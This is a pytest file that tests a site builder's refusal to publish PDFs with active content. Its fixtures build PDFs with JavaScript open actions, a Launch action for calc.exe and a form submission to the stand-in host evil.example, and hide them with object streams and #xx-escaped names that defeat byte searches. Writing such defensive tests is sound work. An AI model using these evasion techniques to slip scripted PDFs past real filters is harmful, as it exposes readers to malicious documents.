"""A PDF that runs something when opened is not published (a fuzzing find: Chromium's
viewer ran a flyer's `app.alert`, and the build said "No problems found").

Each PDF is made with pikepdf, the way an attacker's tool would write it:
plainly, packed in compressed object streams (where a search of the bytes
finds nothing), or with its names spelt with `#xx` escapes.
"""

from __future__ import annotations

from pathlib import Path

import pikepdf
import pytest
from pdffactory import make_pdf
from sitefactory import make_site, problems_for

from microsite.content.pdfcheck import MESSAGE, UNREADABLE, pdf_problem

Name = pikepdf.Name


def scripted(path: Path, how: str, *, packed: bool = False) -> Path:
    """A text PDF that runs something in the way `how` names."""
    make_pdf(path, text=True, tagged=True, lang="en")
    pdf = pikepdf.open(path, allow_overwriting_input=True)
    script = pikepdf.Dictionary(S=Name.JavaScript, JS=pikepdf.String("app.alert('x')"))
    if how == "open":
        pdf.Root.OpenAction = pdf.make_indirect(script)
    elif how == "names":
        tree = pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), script]))
        pdf.Root.Names = pikepdf.Dictionary(JavaScript=pdf.make_indirect(tree))
    elif how in ("launch", "submit"):
        action = (
            pikepdf.Dictionary(S=Name.Launch, F=pikepdf.String("calc.exe"))
            if how == "launch"
            else pikepdf.Dictionary(S=Name.SubmitForm, F=pikepdf.String("https://evil.example/"))
        )
        link = pikepdf.Dictionary(
            Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 612, 792], A=action
        )
        pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(link)]))
    mode = pikepdf.ObjectStreamMode.generate if packed else pikepdf.ObjectStreamMode.disable
    pdf.save(path, object_stream_mode=mode, compress_streams=True)
    pdf.close()
    return path


@pytest.mark.parametrize("packed", [False, True])
@pytest.mark.parametrize("how", ["open", "names", "launch", "submit"])
def test_a_pdf_that_runs_something_is_refused(tmp_path: Path, how: str, packed: bool) -> None:
    path = scripted(tmp_path / "flyer.pdf", how, packed=packed)
    if packed:
        assert b"/JavaScript" not in path.read_bytes() or how in ("names",)
    problem = pdf_problem(path, "content/media/flyer.pdf")
    assert problem is not None and problem.message == MESSAGE


HAND_WRITTEN = (
    b"%PDF-1.4\n1 0 obj <</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>"
    b" endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n"
)


def test_a_pdf_naming_a_script_that_cannot_be_read_is_refused(tmp_path: Path) -> None:
    """A hand-written file with a script and no page tree: pikepdf refused to open it, and
    it was published as if nothing in it could run (review find). A damaged file that
    names nothing that runs is left to the PDF lint."""
    path = tmp_path / "flyer.pdf"
    path.write_bytes(HAND_WRITTEN)
    problem = pdf_problem(path, "content/media/flyer.pdf")
    assert problem is not None and problem.message == UNREADABLE
    plain = tmp_path / "plain.pdf"
    plain.write_bytes(b"%PDF-1.4\nnot really a PDF\n%%EOF\n")
    assert pdf_problem(plain, "content/media/plain.pdf") is None


def test_a_name_spelt_with_escapes_is_read_as_the_name(tmp_path: Path) -> None:
    path = scripted(tmp_path / "flyer.pdf", "open")
    data = path.read_bytes().replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/J#53 ")
    assert b"/JavaScript" not in data and b"/JS " not in data
    path.write_bytes(data)
    assert pdf_problem(path, "content/media/flyer.pdf") is not None


@pytest.mark.parametrize("packed", [False, True])
def test_a_plain_flyer_is_published(tmp_path: Path, packed: bool) -> None:
    path = make_pdf(tmp_path / "plain.pdf", text=True, tagged=True, lang="en")
    if packed:
        with pikepdf.open(path, allow_overwriting_input=True) as pdf:
            pdf.save(path, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert pdf_problem(path, "content/media/plain.pdf") is None


def test_the_build_refuses_it_and_a_link_to_it_says_why(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    story = "---\ntitle: A\ndate: 2026-01-01\n---\n\nSee [the flyer](/media/flyer.pdf).\n"
    make_site(tmp_path, {"stories/2026-01-01-a.md": story})
    scripted(tmp_path / "content/media/flyer.pdf", "open", packed=True)
    found = problems_for(tmp_path, {})
    assert found == [
        f"content/media/flyer.pdf:1: {MESSAGE} (save it again without scripts, by printing "
        "it to a new PDF, and replace this file)",
        "content/stories/2026-01-01-a.md:6: '/media/flyer.pdf' cannot be published (see "
        "content/media/flyer.pdf:1)",
    ]
